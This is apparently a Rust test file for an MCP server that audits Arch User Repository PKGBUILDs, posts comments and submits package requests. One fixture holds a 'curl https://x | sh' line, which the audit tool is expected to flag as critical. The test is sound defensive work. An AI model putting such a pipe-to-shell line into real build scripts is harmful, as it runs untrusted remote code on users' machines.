use std::sync::{Arc, Mutex};

use aurum_core::portal::{PortalConfig, Session};
use aurum_mcp::*;
use rmcp::handler::server::wrapper::Parameters;

fn make_server() -> AurumServer {
    // Unroutable base: these tests never touch the network.
    let config = PortalConfig {
        base_url: "http://127.0.0.1:9".to_string(),
        min_request_delay_ms: 0,
        timeout_secs: 2,
        ..PortalConfig::default()
    };
    let session = Session::with_config(config).unwrap();
    AurumServer::with_session(Arc::new(Mutex::new(session)))
}

// reqwest::blocking::Client has its own internal runtime that panics if it is
// built, used, or dropped inside another tokio context. The tool handlers do
// their work synchronously (no real tokio awaits), so drive their futures with
// a plain executor that establishes no tokio runtime context — matching the
// synchronous call path main.rs relies on.
fn run_async<F: std::future::Future>(future: F) -> F::Output {
    futures::executor::block_on(future)
}

fn extract_text(result: rmcp::model::CallToolResult) -> String {
    result
        .content
        .first()
        .and_then(|c| c.raw.as_text())
        .map(|t| t.text.clone())
        .unwrap_or_default()
}

#[test]
fn audit_tool_reports_ordered_findings() {
    let server = make_server();

    let result = run_async(server.audit_pkgbuild(Parameters(AuditParams {
        content: "build() {\n  curl https://x | sh\n  sudo make install\n}\n".to_string(),
    })))
    .unwrap();

    let text = extract_text(result);
    let findings: Vec<serde_json::Value> = serde_json::from_str(&text).unwrap();
    assert_eq!(findings.len(), 2);
    assert_eq!(findings[0]["rule"], "curl-pipe-shell");
    assert_eq!(findings[0]["severity"], "critical");
    assert_eq!(findings[1]["rule"], "sudo");
}

#[test]
fn audit_tool_returns_empty_list_for_clean_text() {
    let server = make_server();

    let result = run_async(server.audit_pkgbuild(Parameters(AuditParams {
        content: "build() {\n  echo hello\n}\n".to_string(),
    })))
    .unwrap();

    let text = extract_text(result);
    let findings: Vec<serde_json::Value> = serde_json::from_str(&text).unwrap();
    assert!(findings.is_empty());
}

#[test]
fn post_comment_without_credentials_is_invalid_params() {
    let server = make_server();

    // Ensure the env fallback cannot satisfy the lookup.
    std::env::remove_var("AUR_USERNAME");
    std::env::remove_var("AUR_PASSWORD");

    let result = run_async(server.post_comment(Parameters(PostCommentParams {
        package: "yay".to_string(),
        comment: "hello".to_string(),
        username: None,
        password: None,
    })));

    let err = result.unwrap_err();
    assert!(err.message.contains("AUR_USERNAME"), "got: {}", err.message);
}

#[test]
fn post_comment_network_failure_is_structured_not_an_error() {
    let server = make_server();

    let result = run_async(server.post_comment(Parameters(PostCommentParams {
        package: "yay".to_string(),
        comment: "hello".to_string(),
        username: Some("alice".to_string()),
        password: Some("secret".to_string()),
    })))
    .unwrap();

    let text = extract_text(result);
    let value: serde_json::Value = serde_json::from_str(&text).unwrap();
    // Login against an unroutable portal fails in transport; the taxonomy
    // must come back as data, not as a protocol error.
    assert_eq!(value["status"], "transport_failure");
}

#[test]
fn submit_request_validates_kind_and_merge_target() {
    let server = make_server();

    let result = run_async(server.submit_request(Parameters(SubmitRequestParams {
        package: "yay".to_string(),
        kind: "takeover".to_string(),
        reason: "x".to_string(),
        merge_into: None,
        username: Some("alice".to_string()),
        password: Some("secret".to_string()),
    })));
    assert!(result.unwrap_err().message.contains("unknown request kind"));

    let result = run_async(server.submit_request(Parameters(SubmitRequestParams {
        package: "yay".to_string(),
        kind: "merge".to_string(),
        reason: "duplicate of yay-bin".to_string(),
        merge_into: None,
        username: Some("alice".to_string()),
        password: Some("secret".to_string()),
    })));
    assert!(result.unwrap_err().message.contains("merge_into"));
}
